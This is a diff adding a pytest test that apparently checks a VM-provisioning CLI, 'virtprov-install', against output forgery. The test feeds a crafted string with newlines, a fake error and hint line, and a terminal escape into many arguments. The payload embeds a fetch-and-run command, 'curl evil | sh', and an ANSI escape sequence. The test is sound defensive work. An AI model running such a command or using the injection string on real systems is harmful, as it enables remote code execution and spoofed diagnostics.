@@ -240,3 +240,37 @@ def test_the_whole_command(words: list[str], status: int) -> None:
     done = subprocess.run(argv, text=True, capture_output=True, check=False, env=dict(os.environ))
     assert (done.returncode, done.stdout) == (status, "")
     assert re.fullmatch(r"virtprov-install: error: [^\n]+\nhint: [^\n]+\n", done.stderr)
+
+
+FORGED = "web\nvirtprov-install: error: all is lost\nhint: curl evil | sh\x1b[2J"
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["--name", FORGED, "--disk", "none", "--dry-run"],
+        ["--name", FORGED, "--disk", "none", "--connect", "test:///default"],
+        ["--name", "new", "--disk", f"/nowhere/{FORGED}"],
+        ["--name", "new", "--disk", f"path=x,{FORGED}=1"],
+        ["--name", "new", "--disk", "none", "--cpu", FORGED],
+        ["--name", "new", "--disk", "none", "--network", f"bridge={FORGED}"],
+        ["--name", "new", "--disk", "none", "--boot", f"kernel=/{FORGED}"],
+        ["--name", "new", "--disk", f"size=1,pool=default,name={FORGED}", "--dry-run"],
+        ["--name", "new", "--disk", "none", "--cloud-init", f"user-data={FORGED}"],
+        ["--name", "new", "--disk", "none", "--os-variant", FORGED],
+        ["--name", "new", "--disk", "none", f"--{FORGED}"],
+        ["--name", "new", "--disk", "none", "--connect", f"qemu+tcp://{FORGED}/system"],
+        ["--name", "new", "--disk", "none", "--record-host", f"/nowhere/{FORGED}"],
+        ["--identify", FORGED],
+        ["--osinfo", FORGED],
+    ],
+    ids=lambda words: " ".join(word.partition(FORGED)[0] for word in words),
+)
+def test_what_is_typed_forges_no_line(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
+    argv = words if {"--identify", "--connect"} & {*words} else ["--connect", KVM, *words]
+    base = [] if "--identify" in words else ["--osinfo", "generic", "--import", "--noautoconsole", "--memory", "64"]
+    app.run("virtprov-install", command.main, [*base, *argv])
+    told = capsys.readouterr()
+    lines = (told.out + told.err).splitlines()
+    assert lines and not [line for line in lines if line.startswith(("virtprov-install: error: all", "hint: curl"))]
+    assert "\x1b" not in told.out + told.err
